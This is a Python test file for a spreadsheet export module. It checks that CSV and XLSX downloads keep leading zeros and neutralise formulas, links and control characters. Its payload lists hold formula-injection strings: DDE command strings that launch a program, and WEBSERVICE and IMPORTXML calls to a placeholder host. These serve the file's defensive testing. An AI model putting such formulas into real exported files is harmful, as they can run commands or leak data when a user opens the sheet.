"""Downloads are opened again by a spreadsheet: no text in them may come alive, no code may lose its zeros."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lonja.core.sheets.reader import read_rows
from lonja.core.sheets.writer import Column, write_csv, write_xlsx

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"click\")", "=2+5+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x.example\",A1:Z9),\"//a\")", "=WEBSERVICE(\"http://x.example\")", "=A1", "==1",
    "=1+1;x", "=\n1+1", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1", "\uff1d1+1", "=DDE(\"cmd\";\"/C calc\")",
    "+1+1", "+cmd|' /C calc'!A0", "+34 600 000 000", "\uff0b1", "+@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "-@SUM(A1)", "\uff0d1", "-A1", "-", "--1", "-1e5", "-1-1",
    "@SUM(1+1)", "@A1", "\uff20A1", "@", "\t1", "\r1", "\n1", "\r\n@A1", "=",
]  # fmt: skip
LINKS = ["http://x.example/a", "mailto:a@x.example", "internal:Sheet1!A1", "external:c:\\x.xlsx", "ftp://x.example"]
CONTROLS = [
    "{=1+1}",
    "\x00=1+1",
    "a\x07b",
    "_x003D_1+1",
    "\ud800",
    "\ufffe",
    "]]>",
    "<f>1+1</f>",
    "&lt;",
    '"',
    "''",
    "x" * 40_000,
]
NUMBERS_OF_TEXT = ["00123", "1e5", "8412345678905", "1/2", "3-4", "12.50", "TRUE", "-5", "-12,5", "-1.234,56"]
TEXTS = [Column("Código"), Column("Descripción")]


def test_there_are_forty_formulas_to_try():
    assert len(set(FORMULAS)) == 40


def opened(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("payload", FORMULAS + LINKS + CONTROLS + NUMBERS_OF_TEXT)
def test_no_text_in_any_field_of_an_xlsx_is_a_formula_a_link_or_a_number(payload):
    data = write_xlsx([Column(payload), Column(payload)], [[payload, payload]] * 2, sheet_name=payload)
    cells = [cell for row in opened(data).iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = b"".join(package.read(name) for name in package.namelist())
    assert not re.search(rb"<f[ >]|<hyperlink|TargetMode", xml)


def test_an_xlsx_keeps_texts_whole_up_to_what_the_format_holds():
    texts = [*FORMULAS, *LINKS, *NUMBERS_OF_TEXT]
    sheet = opened(write_xlsx(TEXTS, [[text, "x" * 40_000] for text in texts]))
    assert [cell.value.replace("_x000D_", "\r") for cell in sheet["A"][1:]] == texts
    assert len(sheet["B2"].value) == 32_767


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_field_of_a_csv_begins_like_a_formula(payload):
    data = write_csv([Column(payload), Column(payload)], [[payload, payload]] * 2)
    fields = [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for field in row]
    assert fields == ["'" + payload] * 6


@pytest.mark.parametrize("text", ["-5", "-12,5", "-1.234,56", "00123", "a=b", "1-2", "x@y.example", "'", ""])
def test_what_is_no_formula_stays_as_it_is_in_a_csv(text):
    assert write_csv([Column("a")], [[text, 1]]).decode("utf-8-sig").split("\r\n")[1] == (
        f'"{text}",1' if "," in text else f"{text},1"
    )


def test_numbers_are_numbers_and_dates_are_dates():
    madrid = datetime.timezone(datetime.timedelta(hours=2))
    row = [Decimal("1234.50"), -3, 0.5, True, None, datetime.date(2026, 1, 2)]
    row.append(datetime.datetime(2026, 1, 2, 23, 30, tzinfo=madrid))
    columns = [Column("Precio", number_format="#,##0.00"), *[Column(str(n)) for n in range(6)]]
    sheet = opened(write_xlsx(columns, [row], sheet_name="Pedido: mayo/junio [1]"))
    assert sheet.title == "Pedido  mayo junio  1"
    assert sheet.freeze_panes == "A2"
    assert sheet["A2"].number_format == "#,##0.00"
    assert [cell.value for cell in sheet[2]] == [
        *[1234.5, -3, 0.5, True, None],
        datetime.datetime.fromisoformat("2026-01-02"),
        datetime.datetime.fromisoformat("2026-01-02T23:30"),
    ]


def test_a_number_that_a_spreadsheet_would_round_is_written_as_text():
    numbers = [10**15, Decimal("12345678901234567890"), float("nan"), Decimal("Infinity")]
    sheet = opened(write_xlsx(TEXTS, [[number] for number in numbers]))
    assert [cell.value for cell in sheet["A"][1:]] == [str(number) for number in numbers]


def test_columns_are_as_wide_as_their_texts():
    sheet = opened(write_xlsx([Column("A"), Column("B"), Column("C")], [["x" * 20, 1, "y" * 500]]))
    assert [round(sheet.column_dimensions[name].width) for name in "ABC"] == [23, 11, 63]


def test_a_row_that_does_not_fit_is_an_error_and_not_a_shorter_file():
    with pytest.raises(ValueError, match="row 2 "):
        write_xlsx(TEXTS, [["a"], ["a", "b", "c"]])


def test_a_csv_speaks_the_dialect_that_is_asked_for():
    row = ["00123", Decimal("-1234.50"), 1e-7, None, True, datetime.date(2026, 1, 2), 'a;"b"\r\nc']
    assert write_csv([Column("Uds.")], [row], delimiter=";", decimal_mark=",") == (
        b"\xef\xbb\xbfUds.\r\n00123;-1234,50;0,0000001;;TRUE;2026-01-02;" + b'"a;""b""\r\nc"\r\n'
    )


SAFE_TEXT = st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1).filter(
    lambda t: t[0] not in "=+-@\uff1d\uff0b\uff0d\uff20'"
)


@given(st.lists(st.tuples(SAFE_TEXT, st.integers(1, 10**9)), min_size=1, max_size=20))
def test_what_was_downloaded_can_be_uploaded_again(rows):
    read = read_rows(write_csv([Column("Código"), Column("Uds.")], rows), max_rows=100)
    assert [row.cells for row in read.rows[1:]] == [(text, str(number)) for text, number in rows]
